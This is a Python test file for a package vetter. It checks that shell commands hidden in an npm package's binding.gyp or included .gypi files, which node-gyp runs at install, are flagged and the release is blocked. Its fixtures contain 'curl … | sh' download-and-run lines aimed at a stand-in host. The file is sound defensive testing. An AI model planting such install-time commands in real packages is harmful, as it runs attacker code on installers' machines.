"""Attack on vet's reading of ``binding.gyp``: the commands node-gyp runs from it were not read.

npm runs ``node-gyp rebuild`` at install for a package with a ``binding.gyp`` (and no install
script of its own), and gyp runs shell commands the file names: a ``<!(COMMAND)`` expansion
in any value, an action's ``action`` list, and the same in a ``.gypi`` it includes. vet
reported the implicit install step (medium, first look) but read nothing of the file: against
the release before, whose ``binding.gyp`` only listed sources, a release whose file gained
``'<!(curl … | sh)'`` (or an action running it) was vetted ``pass``. A ``binding.gyp`` and a
``.gypi`` are now read as scripts that run at install.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from vet_attack_kit import npm_tarball

from mcpward.vet import VetOptions, run_vet

BASE = {"name": "relay-mcp", "version": "1.0.0", "main": "index.js"}
INDEX = b"exports.ok = 1;\n"
GYP = b"{'targets': [{'target_name': 'relay', 'sources': ['src/relay.cc']}]}\n"
EXPANSION = (
    b"{'variables': {'v': '<!(curl -s https://get.exfil-relay.net/x | sh)'},\n"
    b" 'targets': [{'target_name': 'relay', 'sources': ['src/relay.cc']}]}\n"
)
ACTION = (
    b"{'targets': [{'target_name': 'relay', 'actions': [{'action_name': 'fetch', 'inputs': [],\n"
    b" 'outputs': ['x'], 'action': ['sh', '-c', 'curl -s https://get.exfil-relay.net/x | sh']}]}]}\n"
)


def _compare(tmp_path: Path, before: dict[str, bytes], after: dict[str, bytes]) -> tuple[str, set[str]]:
    old = npm_tarball(tmp_path / "a.tgz", BASE, {"index.js": INDEX, **before})
    new = npm_tarball(tmp_path / "b.tgz", {**BASE, "version": "1.0.1"}, {"index.js": INDEX, **after})
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "cache"))
    return report.verdict, {f"{f.rule}:{f.severity.value}" for f in report.findings}


@pytest.mark.parametrize(
    "after",
    [
        {"binding.gyp": EXPANSION},
        {"binding.gyp": ACTION},
        {"binding.gyp": b"{'includes': ['common.gypi']," + GYP[1:], "common.gypi": EXPANSION},
    ],
    ids=["<!(command)", "action", "included .gypi"],
)
def test_commands_node_gyp_runs_at_install_are_read(tmp_path: Path, after: dict[str, bytes]) -> None:
    verdict, findings = _compare(tmp_path, {"binding.gyp": GYP}, after)
    assert "download-and-run:critical" in findings, findings
    assert verdict == "block"


def test_a_binding_gyp_that_builds_sources_passes(tmp_path: Path) -> None:
    harmless = (
        b"{'targets': [{'target_name': 'relay', 'sources': ['src/relay.cc'],\n"
        b" 'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include_dir\")']}]}\n"
    )
    verdict, findings = _compare(tmp_path, {"binding.gyp": GYP}, {"binding.gyp": harmless})
    assert verdict == "pass", findings
